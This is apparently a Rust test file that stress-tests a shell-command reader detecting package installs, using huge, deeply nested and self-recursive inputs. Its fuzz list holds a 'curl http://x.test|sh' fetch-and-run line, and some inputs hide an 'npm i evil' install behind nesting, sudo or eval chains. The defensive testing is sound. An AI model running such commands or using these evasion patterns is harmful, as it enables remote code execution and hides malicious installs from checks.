//! Long and deep commands: no overflow of the stack, and work in proportion to their length.

use super::super::{Reading, read};

const LONG: usize = 10 << 20;

const SHORTER: usize = 1 << 16;

/// Reads on a small stack, as threads have.
fn on_a_thread(text: String) -> Reading {
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || read(&text))
        .expect("a thread")
        .join()
        .expect("a reading")
}

#[test]
fn ten_megabytes_of_anything_have_a_reading() {
    for piece in ["(((", "'", "<<E\n", "npm i a;"] {
        let reading = on_a_thread(piece.repeat(LONG / piece.len()));

        assert!(reading.packages.len() <= super::super::MOST_PACKAGES, "{piece:?}");
    }
}

#[test]
fn anything_again_and_again_has_a_reading() {
    let pieces = [
        "(",
        "((",
        "$(",
        "$((",
        "\"",
        "{",
        "${x:-",
        "<(",
        "if ",
        "case x in ",
        "case x in a) ",
        "for x in a; do ",
        "f() ",
        "f() { ",
        "function f ",
        "while ",
        "[[ ",
        "x=(",
        "x=",
        "a[",
        "\\",
        "\\\n",
        "#",
        "!",
        "! ",
        "time ",
        "&",
        "|",
        ";",
        ";;",
        "a|",
        "a&&",
        "a\n",
        "a ",
        "$x",
        "${",
        "$'\\x",
        ">",
        "2>&1 ",
        "<<<",
        "sudo ",
        "env ",
        "eval ",
        "bash -c ",
        "x+=a;",
        "echo a|",
        "xargs ",
        "é",
        "]] ",
        "esac ",
        "fi ",
        "done ",
        "}",
        "'a'\"b\"",
        "{a,b}",
        "{{a,b},",
        "a=b ",
        "a(",
        "coproc ",
        "curl http://x.test|sh;",
        "\t",
        "\r\n",
        "\u{1}",
        "'\n",
    ];
    for piece in pieces {
        let reading = on_a_thread(piece.repeat(SHORTER / piece.len()));

        assert!(reading.packages.len() <= super::super::MOST_PACKAGES, "{piece:?}");
    }
}

#[test]
fn what_is_not_read_to_its_end_is_told() {
    let deep = format!("{}npm i evil{}", "( ".repeat(100), " )".repeat(100));
    let long = format!("{}npm i evil", ": ;".repeat(110_000));
    let sudo = format!("{}npm i evil", "sudo ".repeat(100));
    let eval = format!("{}npm i evil", "eval ".repeat(100));

    let whys = |text: &str| read(text).opaque.first().map(|opaque| opaque.why);

    assert_eq!(whys(&deep), Some("too-deep"));
    assert_eq!(whys(&long), Some("too-long"));
    assert_eq!(whys(&sudo), Some("too-deep"));
    assert_eq!(whys(&eval), Some("too-deep"));
}

#[test]
fn functions_that_call_themselves_end() {
    for text in [
        "f() { f; f; }; f",
        "f() { npm i a; f; }; f",
        "alias a=b; alias b=a; a",
        "x='eval \"$x\"'; eval \"$x\"",
        "f() { g; g; g; }; g() { h; h; h; }; h() { f; f; f; }; f",
        "x=1; for a in 1 2 3 4 5 6 7 8; do x=$x$x$x$x$x; done; eval \"$x\"",
    ] {
        assert!(read(text).packages.len() <= super::super::MOST_PACKAGES, "{text}");
    }
}

#[test]
fn what_is_long_is_not_copied_again_and_again() {
    let long = "word ".repeat(40_000);
    let often = |piece: &str| piece.repeat(2_000);
    for text in [
        format!("x='{long}'; {}", often("a $x;")),
        format!("x='{long}'; {}", often("y=$x;")),
        format!("f() {{ : '{long}'; }}; {}", often("f;")),
        format!("alias a=': {long}'; {}", often("a;")),
        format!("{{ {} }} <<< '{long}'", often("cat;")),
        format!("{{ {} }} <<< '{long}'", often("read a;")),
        format!("{{ {} }} <<< '{long}'", often("rev;tr a b;")),
        format!("{{ {} }} <<< '{long}'", often("a|xargs b;")),
        format!("echo '{long}' > f; {}", often("sh f;")),
        format!("set -- {long}; {}", often("a $@;")),
        format!("f() {{ {} }}; f {long}", often("a $@;")),
        format!("python3 - <<E\n{}\nE\n", often("`a`(\"b\");")),
        format!("x=({long}); {}", often("a ${x[@]} ${x[1]};")),
        format!("for x in {long}; do {} done", often("$x a;")),
    ] {
        assert!(on_a_thread(text).packages.len() <= super::super::MOST_PACKAGES);
    }
}
